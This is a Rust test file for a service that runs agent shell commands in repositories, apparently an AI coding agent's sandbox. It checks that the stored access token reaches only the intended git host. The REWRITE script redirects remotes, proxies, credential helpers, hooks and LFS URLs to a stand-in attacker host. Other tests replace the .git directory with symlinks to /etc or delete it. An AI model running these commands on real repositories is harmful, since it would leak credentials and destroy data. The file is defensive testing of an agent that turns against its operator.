//! Agents that turn their repository against us: our token goes to the stored URL or nowhere.

use clawlink_fixtures::git_host::GitHost;
use serde_json::json;

use super::world::{World, event, outline, said};

/// Turns every configuration that git programs read against the push.
const REWRITE: &str = r#"
trap 'touch "$HOME/trapped"' EXIT
run="touch $PWD/ran"
for scope in --local --global; do
  git config $scope "url.$EVIL.insteadOf" "$HOST"
  git config $scope "url.$EVIL.pushInsteadOf" "$HOST"
  git config $scope http.proxy "$EVIL"
  git config $scope "http.$HOST.proxy" "$EVIL"
  git config $scope http.extraHeader "Host: evil.example.com"
  git config $scope http.sslVerify false
  git config $scope credential.helper "!$run"
  git config $scope core.hooksPath "$PWD/.git/hooks"
  git config $scope core.fsmonitor "$run"
  git config $scope core.sshCommand "$run"
  git config $scope gpg.program "$run"
  git config $scope commit.gpgSign true
  git config $scope filter.lfs.process "$run"
  git config $scope filter.lfs.clean "$run"
  git config $scope lfs.url "$EVIL/app.git"
done
git remote set-url origin "$EVIL/app.git"
git remote set-url --push origin "$EVIL/app.git"
git remote add clawlink "$EVIL/app.git"
git config "branch.$(git branch --show-current).pushRemote" clawlink
for hook in pre-commit commit-msg pre-push post-commit reference-transaction post-index-change; do
  printf '#!/bin/sh\n%s\n' "$run" > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
printf '[lfs]\n\turl = %s/app.git\n' "$EVIL" > .lfsconfig
printf '*.bin filter=lfs\n' > .gitattributes
printf 'machine 127.0.0.1 login x password y\n' > ~/.netrc
echo new > work.txt; echo big > a.bin
export http_proxy=$EVIL https_proxy=$EVIL ALL_PROXY=$EVIL
echo rewritten
"#;

#[tokio::test]
async fn rewritten_configuration_decides_nothing() {
    let (world, evil) = tokio::join!(World::start(), GitHost::start());
    let evil = evil.unwrap();
    evil.create_repo("app", &[("a", "1")]).await.unwrap();
    world.git.create_repo("app", &[("a", "1")]).await.unwrap();
    let base = |host: &GitHost| host.url("app").replace("/app.git", "");
    let (home, away) = (base(&world.git), base(&evil));
    let mut request = world.on_repository("app", "shell", REWRITE);
    request["providerOptions"] = json!({"env": {"EVIL": away, "HOST": home}});
    let (submitted, events) = world.run(request).await;

    assert!(said(&events).contains(&"rewritten"), "{events:#?}");
    let completed = event(&events, "completed");
    let branch = completed["branch"].as_str().expect("a branch");
    let tree = world.git.tree("app", branch).await.unwrap();
    assert!(tree.contains(&"100644 work.txt".to_owned()), "{tree:?}");
    assert_eq!(evil.log(), [], "nobody asked the other host for anything");

    let again = json!({
        "websiteSessionId": submitted.session, "userRequest": "ls; echo again > again.txt",
        "github": {"repoUrl": world.git.url("app"), "accessToken": world.git.token()},
    });
    let (_, events) = world.run(again).await;
    assert!(
        !said(&events).contains(&"ran"),
        "no hook, helper or filter ran: {events:#?}"
    );
    assert_eq!(outline(&events).last(), Some(&"completed"), "{events:#?}");
    let tree = world.git.tree("app", branch).await.unwrap();
    assert!(tree.contains(&"100644 again.txt".to_owned()), "{tree:?}");
    assert_eq!(evil.log(), []);
}

#[tokio::test]
async fn a_replaced_git_directory_stops_the_push_and_keeps_the_session() {
    let world = World::start().await;
    world.git.create_repo("app", &[("a", "1")]).await.unwrap();
    for trick in [
        "rm -rf .git; ln -s /etc .git",
        "mv .git ../home/moved; ln -s ../home/moved .git",
        "mv .git ../home/moved; echo gitdir: ../home/moved > .git",
        "rm -rf .git; mkfifo .git",
        "rm -rf .git",
        "rm -rf .git/objects; ln -s /proc/1/root/etc .git/objects",
    ] {
        let script = format!("{trick}; echo kept > work.txt");
        let (submitted, events) = world
            .run(world.on_repository("app", "shell", &script))
            .await;
        assert_eq!(event(&events, "error")["code"], "push_failed", "{trick}");
        let next = json!({"websiteSessionId": submitted.session, "autoCommit": false, "userRequest": "cat work.txt"});
        let (_, events) = world.run(next).await;
        assert_eq!(said(&events), ["kept"], "{trick}");
    }
    assert_eq!(world.git.branches("app").await.unwrap(), ["main"]);
}

#[tokio::test]
async fn another_repository_in_its_place_goes_to_the_stored_address_only() {
    let (world, evil) = tokio::join!(World::start(), GitHost::start());
    let evil = evil.unwrap();
    evil.create_repo("app", &[("a", "1")]).await.unwrap();
    world.git.create_repo("app", &[("a", "1")]).await.unwrap();
    let script = format!(
        "rm -rf .git; git init -q -b other; git remote add origin {}; echo x > work.txt",
        evil.url("app")
    );
    let (_, events) = world
        .run(world.on_repository("app", "shell", &script))
        .await;
    assert_eq!(evil.log(), []);
    if let Some(error) = events.iter().find(|event| event["type"] == "error") {
        assert_eq!(error["code"], "push_failed", "{error}");
    } else {
        let branch = event(&events, "completed")["branch"].as_str().unwrap();
        assert!(branch.starts_with("clawlink/"), "{branch}");
    }
    assert_eq!(
        world.git.tree("app", "main").await.unwrap(),
        ["100644 a"],
        "only the working branch is pushed"
    );
}
